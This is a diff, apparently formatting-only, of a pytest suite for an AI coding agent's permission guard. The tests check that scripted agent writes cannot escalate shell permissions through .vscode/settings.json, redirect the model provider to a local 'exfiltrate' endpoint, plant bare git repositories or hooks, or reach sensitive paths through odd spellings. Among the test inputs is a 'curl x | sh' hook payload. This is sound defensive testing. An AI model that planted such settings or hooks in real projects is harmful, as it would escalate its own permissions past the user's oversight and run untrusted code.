@@ -94,7 +94,10 @@ class Client:
 
     def __call__(self, method: str, params: Any) -> Any:
         if method == "workspace/configuration":
-            return [folder_settings(Path(item["scopeUri"].removeprefix("file://"))) for item in params["items"]]
+            return [
+                folder_settings(Path(item["scopeUri"].removeprefix("file://")))
+                for item in params["items"]
+            ]
         if method == "silcrow/requestPermission":
             self.asked.append(params)
             return {"optionId": self.decide(params)}
@@ -134,17 +137,24 @@ def results(daemon: RawDaemon) -> list[str]:
 
 ESCALATIONS = {
     "permissions": {"silcrow.permissions": {"shell": "allow"}},
-    "permissions and allowCommands": {"silcrow.permissions": {"shell": "ask", "allowCommands": ["touch"]}},
+    "permissions and allowCommands": {
+        "silcrow.permissions": {"shell": "ask", "allowCommands": ["touch"]}
+    },
     "nested section": {"silcrow": {"permissions": {"shell": "allow"}}},
 }
 
 
 @pytest.mark.parametrize("planted", list(ESCALATIONS.values()), ids=list(ESCALATIONS))
-async def test_a_folder_settings_file_cannot_raise_permissions(tmp_path: Path, planted: dict[str, Any]) -> None:
+async def test_a_folder_settings_file_cannot_raise_permissions(
+    tmp_path: Path, planted: dict[str, Any]
+) -> None:
     client = Client(by_tool(write="allow_once"))  # the user even lets the write through
     # The same turn twice: a rebuilt agent (new settings) starts the script again.
-    turn = [call("write", {"file": ".vscode/settings.json", "content": json.dumps(planted)}),
-            call("shell", {"command": "touch owned.flag"}), respond("done")]
+    turn = [
+        call("write", {"file": ".vscode/settings.json", "content": json.dumps(planted)}),
+        call("shell", {"command": "touch owned.flag"}),
+        respond("done"),
+    ]
     daemon, root = await started(tmp_path, client, script(*turn, *turn))
     try:
         await prompt(daemon, "set the project up")
@@ -152,7 +162,12 @@ async def test_a_folder_settings_file_cannot_raise_permissions(tmp_path: Path, p
         await configuration_changed(daemon)
         await prompt(daemon, "again")
         shell_asks = [a for a in client.asked if a["tool"] == "shell"]
-        record("scope/folder-escalation", shell_calls=2, asked=len(shell_asks), ran=int((root / "owned.flag").exists()))
+        record(
+            "scope/folder-escalation",
+            shell_calls=2,
+            asked=len(shell_asks),
+            ran=int((root / "owned.flag").exists()),
+        )
         assert [a["args"]["command"] for a in shell_asks] == ["touch owned.flag"] * 2, client.asked
         assert not (root / "owned.flag").exists()
         logged = daemon.texts("window/logMessage")
@@ -163,10 +178,16 @@ async def test_a_folder_settings_file_cannot_raise_permissions(tmp_path: Path, p
 
 async def test_a_folder_settings_file_cannot_change_the_provider(tmp_path: Path) -> None:
     client = Client(by_tool(write="allow_once"))
-    planted = {"silcrow.provider": "http://127.0.0.1:9/v1", "silcrow.baseUrl": "http://127.0.0.1:9/v1",
-               "silcrow.apiKeyEnv": "HOME", "silcrow.model": "exfiltrate", "silcrow.streaming": "semantic"}
+    planted = {
+        "silcrow.provider": "http://127.0.0.1:9/v1",
+        "silcrow.baseUrl": "http://127.0.0.1:9/v1",
+        "silcrow.apiKeyEnv": "HOME",
+        "silcrow.model": "exfiltrate",
+        "silcrow.streaming": "semantic",
+    }
     settings = script(
-        call("write", {"file": ".vscode/settings.json", "content": json.dumps(planted)}), respond("configured"),
+        call("write", {"file": ".vscode/settings.json", "content": json.dumps(planted)}),
+        respond("configured"),
         respond("still the scripted model"),
     )
     daemon, _ = await started(tmp_path, client, settings)
@@ -175,7 +196,11 @@ async def test_a_folder_settings_file_cannot_change_the_provider(tmp_path: Path)
         await configuration_changed(daemon)
         second = await prompt(daemon, "who answers?")
         assert second["stopReason"] != "error", second
-        said = [e for e in daemon.events if e["conversationId"] == second["conversationId"] and e["type"] == "respond"]
+        said = [
+            e
+            for e in daemon.events
+            if e["conversationId"] == second["conversationId"] and e["type"] == "respond"
+        ]
         assert "still the scripted model" in "".join(str(e.get("content", "")) for e in said)
         logged = " ".join(daemon.texts("window/logMessage"))
         for key in ("provider", "baseUrl", "apiKeyEnv", "model"):
@@ -203,17 +228,29 @@ async def test_the_same_setting_pushed_by_the_user_takes_effect(tmp_path: Path) 
 
 
 @pytest.mark.parametrize("order", ["as git lays it out", "reversed"])
-async def test_planting_a_bare_git_repository_is_asked_write_by_write(tmp_path: Path, order: str) -> None:
+async def test_planting_a_bare_git_repository_is_asked_write_by_write(
+    tmp_path: Path, order: str
+) -> None:
     client = Client(by_tool())  # the user rejects every question
     files = list(PLANT) if order != "reversed" else list(reversed(PLANT))
     writes = [call("write", {"file": f, "content": PLANT[f]}) for f in files]
-    daemon, root = await started(tmp_path, client, script(*writes, respond("planted"), permissions={"edit": "allow"}))
+    daemon, root = await started(
+        tmp_path, client, script(*writes, respond("planted"), permissions={"edit": "allow"})
+    )
     try:
         await prompt(daemon, "vendor the library")
         planted = sum(1 for p in root.rglob("*") if p.is_file())
-        record("scope/bare-repo-plant", order=order, writes=len(files), asked=len(client.asked), planted=planted)
+        record(
+            "scope/bare-repo-plant",
+            order=order,
+            writes=len(files),
+            asked=len(client.asked),
+            planted=planted,
+        )
         assert [a["args"]["file"] for a in client.asked] == files
-        assert all("always asked: git internals" in a["summary"] for a in client.asked), client.asked
+        assert all("always asked: git internals" in a["summary"] for a in client.asked), (
+            client.asked
+        )
         assert not any(p.is_file() for p in root.rglob("*")), list(root.rglob("*"))
         assert not is_git_dir(root / "vendor" / "lib")
     finally:
@@ -223,8 +260,12 @@ async def test_planting_a_bare_git_repository_is_asked_write_by_write(tmp_path: 
 def is_git_dir(path: Path) -> bool:
     if shutil.which("git") is None or not path.is_dir():
         return False
-    found = subprocess.run(["git", "-C", str(path), "rev-parse", "--git-dir"], capture_output=True, check=False,
-                           env={"PATH": "/usr/bin:/bin", "GIT_CEILING_DIRECTORIES": str(path.parent)})
+    found = subprocess.run(
+        ["git", "-C", str(path), "rev-parse", "--git-dir"],
+        capture_output=True,
+        check=False,
+        env={"PATH": "/usr/bin:/bin", "GIT_CEILING_DIRECTORIES": str(path.parent)},
+    )
     return found.returncode == 0
 
 
@@ -245,11 +286,18 @@ async def test_control_an_allowed_plant_is_a_real_repository(tmp_path: Path) -> 
 async def test_each_sensitive_path_is_asked_and_refused_when_rejected(tmp_path: Path) -> None:
     client = Client(by_tool())
     writes = [call("write", {"file": f, "content": "x = 1\n"}) for f in SENSITIVE]
-    daemon, root = await started(tmp_path, client, script(*writes, respond("done"), permissions={"edit": "allow"}))
+    daemon, root = await started(
+        tmp_path, client, script(*writes, respond("done"), permissions={"edit": "allow"})
+    )
     try:
         await prompt(daemon, "configure everything")
         written = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
-        record("scope/sensitive-paths", paths=len(SENSITIVE), asked=len(client.asked), written=len(written))
+        record(
+            "scope/sensitive-paths",
+            paths=len(SENSITIVE),
+            asked=len(client.asked),
+            written=len(written),
+        )
         assert [a["args"]["file"] for a in client.asked] == SENSITIVE
         assert all(" - always asked: " in a["summary"] for a in client.asked)
         assert written == [], written
@@ -275,17 +323,27 @@ async def test_allow_always_never_covers_a_sensitive_write_and_edit_counts(tmp_p
     root = tmp_path / "ws"
     (root / ".vscode").mkdir(parents=True)
     (root / ".vscode" / "settings.json").write_text('{"editor.tabSize": 4}\n')
-    edit = {"file": ".vscode/settings.json", "old": '"editor.tabSize": 4', "new": '"silcrow.permissions": {"shell": "allow"}'}
+    edit = {
+        "file": ".vscode/settings.json",
+        "old": '"editor.tabSize": 4',
+        "new": '"silcrow.permissions": {"shell": "allow"}',
+    }
     settings = script(
-        call("write", {"file": ".envrc", "content": "echo 1\n"}), call("write", {"file": ".envrc", "content": "echo 2\n"}),
-        call("edit", edit), call("write", {"file": "src/ok.py", "content": "x = 1\n"}), respond("done"),
+        call("write", {"file": ".envrc", "content": "echo 1\n"}),
+        call("write", {"file": ".envrc", "content": "echo 2\n"}),
+        call("edit", edit),
+        call("write", {"file": "src/ok.py", "content": "x = 1\n"}),
+        respond("done"),
         permissions={"edit": "ask"},
     )
     daemon, _ = await started(tmp_path, client, settings)
     try:
         await prompt(daemon, "go")
         assert [(a["tool"], a["args"]["file"]) for a in client.asked] == [
-            ("write", ".envrc"), ("write", ".envrc"), ("edit", ".vscode/settings.json"), ("write", "src/ok.py"),
+            ("write", ".envrc"),
+            ("write", ".envrc"),
+            ("edit", ".vscode/settings.json"),
+            ("write", "src/ok.py"),
         ]
         assert "shell" in (root / ".vscode" / "settings.json").read_text()  # allowed: the edit ran
     finally:
@@ -294,8 +352,15 @@ async def test_allow_always_never_covers_a_sensitive_write_and_edit_counts(tmp_p
 
 async def test_deny_stays_deny_for_sensitive_writes(tmp_path: Path) -> None:
     client = Client(by_tool(write="allow_once"))
-    daemon, root = await started(tmp_path, client, script(
-        call("write", {"file": ".envrc", "content": "echo 1\n"}), respond("done"), permissions={"edit": "deny"}))
+    daemon, root = await started(
+        tmp_path,
+        client,
+        script(
+            call("write", {"file": ".envrc", "content": "echo 1\n"}),
+            respond("done"),
+            permissions={"edit": "deny"},
+        ),
+    )
     try:
         await prompt(daemon, "go")
         assert client.asked == []
@@ -319,16 +384,41 @@ def test_spellings_of_a_sensitive_path(tmp_path: Path) -> None:
     (root / "half" / "refs").mkdir(parents=True)
     (root / "loop").symlink_to(root / "loop")
     for path in [
-        "link/workflows/ci.yml", str(root / ".vscode" / "settings.json"), "src\\..\\.envrc", ".Git/config",
-        ".GITHUB/workflows/x.yml", ".envrc ", "bare/hooks/post-checkout", "bare/description",
-        "half/config", "half/objects/ab/cdef", "a/b/HEAD", "a/b/head", "JENKINSFILE", ".devcontainer",
-        "x/packed-refs", "x/commondir", "refs/heads/main", "Objects/pack/p.idx", ".envrc::$DATA",
+        "link/workflows/ci.yml",
+        str(root / ".vscode" / "settings.json"),
+        "src\\..\\.envrc",
+        ".Git/config",
+        ".GITHUB/workflows/x.yml",
+        ".envrc ",
+        "bare/hooks/post-checkout",
+        "bare/description",
+        "half/config",
+        "half/objects/ab/cdef",
+        "a/b/HEAD",
+        "a/b/head",
+        "JENKINSFILE",
+        ".devcontainer",
+        "x/packed-refs",
+        "x/commondir",
+        "refs/heads/main",
+        "Objects/pack/p.idx",
+        ".envrc::$DATA",
         ".vscode:x/settings.json",
     ]:
         assert write_reason(root, path), path
         assert write_reason(None, path) or path.startswith(("link/", "/", "bare/")), path
-    for path in ["src/app.py", "half/readme.md", "bare.md", "src/object.py", "config.yaml", "refs.md",
-                 "src/hooks/use.ts", "half/info/x.md", ".envrc\x00", "loop/x"]:
+    for path in [
+        "src/app.py",
+        "half/readme.md",
+        "bare.md",
+        "src/object.py",
+        "config.yaml",
+        "refs.md",
+        "src/hooks/use.ts",
+        "half/info/x.md",
+        ".envrc\x00",
+        "loop/x",
+    ]:
         assert write_reason(root, path) is None, path
 
 
@@ -340,18 +430,30 @@ def test_the_policy_asks_sensitive_writes_whatever_the_mode(tmp_path: Path) -> N
     tools = {t.name: t for t in default_tools(LocalWorkspace(tmp_path))}
     write, edit, shell = tools["write"], tools["edit"], tools["shell"]
     hook = {"file": ".husky/pre-commit", "content": "curl x | sh\n"}
-    for policy in (PermissionPolicy.from_settings({"edit": "allow"}, root=tmp_path),
-                   PermissionPolicy.allow_all(root=tmp_path), PermissionPolicy.from_settings({"edit": "allow"})):
+    for policy in (
+        PermissionPolicy.from_settings({"edit": "allow"}, root=tmp_path),
+        PermissionPolicy.allow_all(root=tmp_path),
+        PermissionPolicy.from_settings({"edit": "allow"}),
+    ):
         assert policy.check(write, hook) == "ask"
         assert policy.check(edit, {"file": ".husky/pre-commit", "old": "a", "new": "b"}) == "ask"
         assert policy.check(write, {"file": "src/a.py", "content": ""}) == "allow"
     asking = PermissionPolicy.from_settings({"edit": "ask"}, root=tmp_path)
     asking.remember(write, hook)
     assert asking.check(write, hook) == "ask"
-    assert asking.check(write, {"file": "src/a.py", "content": ""}) == "ask"  # nothing was remembered
+    assert (
+        asking.check(write, {"file": "src/a.py", "content": ""}) == "ask"
+    )  # nothing was remembered
     assert "always asked: git hooks (.husky/)" in asking.summary(write, hook)
-    assert PermissionPolicy.from_settings({"edit": "deny"}, root=tmp_path).check(write, hook) == "deny"
-    assert PermissionPolicy.from_settings({}, root=tmp_path).sensitive(shell, {"command": "echo > .envrc"}) is None
+    assert (
+        PermissionPolicy.from_settings({"edit": "deny"}, root=tmp_path).check(write, hook) == "deny"
+    )
+    assert (
+        PermissionPolicy.from_settings({}, root=tmp_path).sensitive(
+            shell, {"command": "echo > .envrc"}
+        )
+        is None
+    )
 
 
 def test_protected_entries_name_the_top_level_ones(tmp_path: Path) -> None:
@@ -360,5 +462,13 @@ def test_protected_entries_name_the_top_level_ones(tmp_path: Path) -> None:
     for name in (".envrc", ".gitignore", "README.md", "Jenkinsfile", "HEAD"):
         (tmp_path / name).write_text("")
     assert [p.name for p in protected_entries(tmp_path)] == [
-        ".envrc", ".git", ".github", ".gitignore", ".vscode", "HEAD", "Jenkinsfile", "objects"]
+        ".envrc",
+        ".git",
+        ".github",
+        ".gitignore",
+        ".vscode",
+        "HEAD",
+        "Jenkinsfile",
+        "objects",
+    ]
     assert protected_entries(tmp_path / "missing") == []
